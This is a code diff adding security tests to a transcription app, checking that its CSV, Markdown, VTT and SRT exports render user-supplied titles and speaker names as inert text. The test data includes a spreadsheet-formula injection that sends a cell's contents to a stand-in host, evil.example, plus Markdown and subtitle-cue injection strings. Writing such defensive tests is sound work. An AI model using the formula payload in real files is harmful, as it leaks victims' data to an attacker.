@@ -5,7 +5,9 @@ seeded data folder); tests that need other settings start their own."""
 
 from __future__ import annotations
 
+import io
 import json
+import re
 import socket
 import time
 
@@ -406,3 +408,69 @@ def test_health_does_not_tell_the_database_path(app, seeded):
     data, _ = seeded
     body = httpx2.get(f"{app.url}/api/health", timeout=30).json()
     assert str(data) not in json.dumps(body)
+
+
+# -- 6. the Analytics CSV runs nothing in a spreadsheet ----------------------------------------------
+def test_the_analytics_csv_neutralises_formulas(app, tmp_path):
+    """A title that a spreadsheet would run (`=HYPERLINK(...)`, `+`, `-`, `@`) is written as text
+    in the CSV the Analytics page offers: the file is fetched as the page's download button links it."""
+    import csv
+    import io
+    import re
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    made = _upload(app, _silence(tmp_path / "minute.wav", 60), title=evil)
+    assert made.status_code == 202, made.text
+    url = f"{app.url}/api/sessions/{made.json()['session_id']}"
+    deadline = time.monotonic() + 60
+    while httpx2.get(url, timeout=30).json()["status"] != "done":
+        assert time.monotonic() < deadline
+        time.sleep(0.5)
+    with StreamlitSocket(app.port, origin=app.url) as ui:
+        ui.rerun("analytics")
+        text = ui.read_until_finished(60)
+        if ".csv" not in text:
+            ui.rerun("analytics")
+            text = ui.read_until_finished(60)
+    url = re.search(r'url: "([^"]+)"', text[text.find("scribe-chunks.csv") - 2000:] if "scribe-chunks.csv" in text
+                    else text)
+    assert url, "no download link on the Analytics page"
+    body = httpx2.get(f"{app.url}{url.group(1)}", timeout=30).text
+    titles = {row["title"] for row in csv.DictReader(io.StringIO(body))}
+    assert "'" + evil in titles and evil not in titles
+    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)
+
+
+# -- 7. exports: text stays text in every format ---------------------------------------------------
+def test_the_markdown_export_keeps_a_title_as_text(app, tmp_path):
+    """A title with newlines, a heading and a link is one escaped heading line in the .md."""
+    made = _upload(app, _silence(tmp_path / "minute.wav", 60), title="Plan\n# Owned\n[x](http://evil.example)")
+    assert made.status_code == 202, made.text
+    md = httpx2.get(f"{app.url}/api/sessions/{made.json()['session_id']}/transcript?format=md", timeout=30).text
+    assert md.startswith("# Plan # Owned \\[x\\](http://evil.example)\n")  # one line: `#` inside is text
+    assert md.count("\n#") == 0 and not re.search(r"(?<!\\)\]\(", md)  # no live heading or link
+
+
+def test_subtitles_keep_speaker_names_and_models_as_text():
+    """Speaker names (people type them) and a model string cannot add cues, tags or Markdown: the
+    VTT and SRT parse back to exactly the cues written, with the names as plain text. (The API
+    serves these bytes as they are: tests/test_api.py compares them.)"""
+    import srt
+    import webvtt
+
+    from scribe.core import SegmentRow, SessionRow
+    from scribe.export import render
+
+    evil = "Eve>\n\n00:00:09.000 --> 00:00:19.000\n<b>x</b></v"
+    session = SessionRow(id="s1", title="t", source="upload", status="done", backend="local",
+                         model="tiny.en\n# [x](http://evil.example)", chunk_seconds=5, chunk_policy="fixed",
+                         created_at=0.0)
+    segments = [SegmentRow("s1", 0, 0, 0, 4000, "hello --> there", speaker=evil),
+                SegmentRow("s1", 1, 0, 5000, 9000, "second line", speaker="Bob")]
+    vtt = render("vtt", session, segments)
+    cues = webvtt.from_buffer(io.StringIO(vtt)).captions
+    assert len(cues) == 2 and "<b>" not in vtt and vtt.count(" --> ") == 2
+    subtitles = list(srt.parse(render("srt", session, segments)))
+    assert len(subtitles) == 2 and subtitles[0].content.startswith("Eve>")
+    md = render("md", session, segments)
+    assert md.count("\n#") == 0 and not re.search(r"(?<!\\)\]\(", md)  # no live heading or link
